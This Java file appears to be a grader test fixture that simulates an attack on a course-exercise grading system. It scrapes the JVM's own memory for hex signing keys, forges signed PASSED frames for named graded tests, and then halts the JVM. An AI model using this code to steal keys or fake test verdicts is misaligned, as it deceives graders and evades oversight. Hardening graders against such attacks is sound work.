package dev.attentionkit.exercises.forge;

import dev.attentionkit.grading.runner.Frames;
import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;

/**
 * ATTACK (grader fixture, after the attack branch's interface-forge-all): wherever the graded tests of 2.2, 4.3,
 * 7.2, 7.4 and 9.2 run in the same JVM as this code, it reads every 256-bit hex key from the JVM's own memory
 * (/proc/self/mem), prints signed PASSED frames for each of their tests, for every plausible sequence number,
 * and halts the JVM before a real verdict can be sent. Run in the judged set-up it is just a host that dies.
 */
public final class Forge {
    /** The tests of the five classes whose verdict used to come from the sandboxed JVM. */
    static final String[] TESTS = {
        "ch02.WeightTransferTest#bookV2", "ch02.WeightTransferTest#rolesAndLayoutPreserved",
        "ch04.WrapperToMultiHeadTest#bookWrapper", "ch04.WrapperToMultiHeadTest#randomHeads",
        "ch07.DecoderStepTest#luong", "ch07.DecoderStepTest#bahdanau",
        "ch07.SameDiffAttentionTest#forward", "ch07.SameDiffAttentionTest#gradients",
        "ch09.OnlineSoftmaxUpdateTest#firstBlock", "ch09.OnlineSoftmaxUpdateTest#blocksGiveTheFullSoftmax",
        "ch09.OnlineSoftmaxUpdateTest#fullyMaskedFirstBlock",
        "ch02.MySelfAttentionV1Test#bookOutput", "ch02.MySelfAttentionV1Test#scalingWithALargerKeySize"};

    private Forge() {
    }

    public static void run() {
        List<String> keys = new ArrayList<>();
        try (RandomAccessFile mem = new RandomAccessFile("/proc/self/mem", "r")) {
            long budget = 768L << 20;
            for (String line : Files.readAllLines(Path.of("/proc/self/maps"))) {
                String[] f = line.split("\\s+");
                if (!f[1].startsWith("rw") || budget <= 0) {
                    continue;
                }
                String[] r = f[0].split("-");
                long from = Long.parseUnsignedLong(r[0], 16);
                long to = Long.parseUnsignedLong(r[1], 16);
                byte[] buf = new byte[1 << 20];
                for (long at = from; at < to && budget > 0; at += buf.length) {
                    int n = (int) Math.min(buf.length, to - at);
                    try {
                        mem.seek(at);
                        mem.readFully(buf, 0, n);
                    } catch (IOException e) {
                        break;
                    }
                    budget -= n;
                    int run = 0;
                    for (int i = 0; i < n; i++) {
                        boolean hex = (buf[i] >= '0' && buf[i] <= '9') || (buf[i] >= 'a' && buf[i] <= 'f');
                        run = hex ? run + 1 : 0;
                        if (run == 64 && keys.size() < 64) {
                            keys.add(new String(buf, i - 63, 64, java.nio.charset.StandardCharsets.ISO_8859_1));
                        }
                    }
                }
            }
        } catch (IOException e) {
            // no /proc/self/mem: nothing to forge with
        }
        PrintStream out = new PrintStream(new FileOutputStream(FileDescriptor.out), true);
        for (String k : keys) {
            Frames frames = new Frames(HexFormat.of().parseHex(k));
            for (long seq = 0; seq < 48; seq++) {
                StringBuilder b = new StringBuilder();
                for (String t : TESTS) {
                    b.append('\n').append(frames.encode(seq, List.of("RESULT", "dev.attentionkit.exercises." + t, "PASSED", "", "", "")));
                }
                out.println(b.append('\n'));
            }
        }
        out.flush();
        Runtime.getRuntime().halt(0);
    }
}
